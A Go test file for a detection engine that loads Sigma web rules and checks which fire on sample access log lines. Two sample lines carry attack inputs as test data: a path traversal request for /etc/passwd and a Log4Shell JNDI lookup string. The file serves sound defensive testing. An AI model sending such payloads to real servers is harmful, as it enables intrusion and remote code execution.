package det_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/detlang/det"
	"github.com/detlang/det/runtime"
)

// TestSigmaAccessLog reads lines of an access log by the names of W3C, and tells
// which of the public rules, and of those that ask one field each, they fire.
func TestSigmaAccessLog(t *testing.T) {
	rules := filepath.Join(sharedData(t), "sigma", "rules")
	sources := []det.Source{}
	for _, file := range []string{
		"rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
		"rules-emerging-threats/2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j_fields.yml",
	} {
		text, err := os.ReadFile(filepath.Join(rules, file))
		if err != nil {
			t.Fatal(err)
		}
		sources = append(sources, det.Source{Name: file, Text: string(text)})
	}
	for _, f := range []struct{ title, is string }{
		{"query", `cs-uri-query: 'x=1'`},
		{"query missing", `cs-uri-query: null`},
		{"c uri query", `c-uri-query: 'x=1'`},
		{"stem", `cs-uri-stem: /a`},
		{"c uri", `c-uri: '/a?x=1'`},
		{"uri", `cs-uri: '/a?x=1'`},
		{"referer", `cs-referer: 'http://r/'`},
		{"referer missing", `cs-referer: null`},
		{"version", `cs-version: HTTP/1.1`},
		{"bytes", `sc-bytes: 5`},
		{"bytes missing", `sc-bytes: null`},
		{"user", `cs-username: ann`},
		{"user missing", `cs-username: null`},
		{"method", `cs-method: GET`},
		{"status", `sc-status: 200`},
		{"agent", `cs-user-agent: curl`},
		{"client", `c-ip: 10.0.0.1`},
	} {
		sources = append(sources, det.Source{Name: f.title + ".yml", Text: "title: " + f.title + "\nlogsource: {category: webserver}\ndetection:\n  s:\n    " + f.is + "\n  condition: s\n"})
	}
	set, diags := det.Compiler{}.Sources(sources...)
	if len(diags.All) > 0 {
		t.Fatal(render(diags))
	}
	for _, tt := range []struct{ line, want string }{
		{
			`10.0.0.1 - ann [01/Mar/2024:08:00:00 +0000] "GET /a?x=1 HTTP/1.1" 200 5 "http://r/" "curl"`,
			"query c_uri_query stem c_uri uri referer version bytes user method status agent client",
		},
		{
			`10.0.0.1 - - [01/Mar/2024:08:00:00 +0000] "GET /a HTTP/1.1" 200 - "-" "curl"`,
			"query_missing stem referer_missing version bytes_missing user_missing method status agent client",
		},
		{
			`10.0.0.2 - bob [01/Mar/2024:08:00:00 +0000] "POST /a?x=../../../../etc/passwd HTTP/1.0" 404 7 "http://q/" "-"`,
			"path_traversal_exploitation_attempts stem",
		},
		{
			`10.0.0.2 - bob [01/Mar/2024:08:00:00 +0000] "POST /b?x=${jndi:ldap://a/b} HTTP/1.0" 404 7 "http://q/" "-"`,
			"log4j_rce_cve_2021_44228_in_fields",
		},
	} {
		file := filepath.Join(t.TempDir(), "access.log")
		if err := os.WriteFile(file, []byte(tt.line+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		fired := map[string]bool{}
		if _, err := set.Run(context.Background(), det.RunOptions{Inputs: []string{file}, Alerts: func(list []runtime.Alert) error {
			for _, a := range list {
				fired[a.Rule] = true
			}
			return nil
		}}); err != nil {
			t.Fatal(err)
		}
		want := map[string]bool{}
		for _, name := range strings.Fields(tt.want) {
			want[name] = true
		}
		if diff := cmp.Diff(want, fired); diff != "" {
			t.Errorf("%s (-want +got)\n%s", tt.line, diff)
		}
	}
}
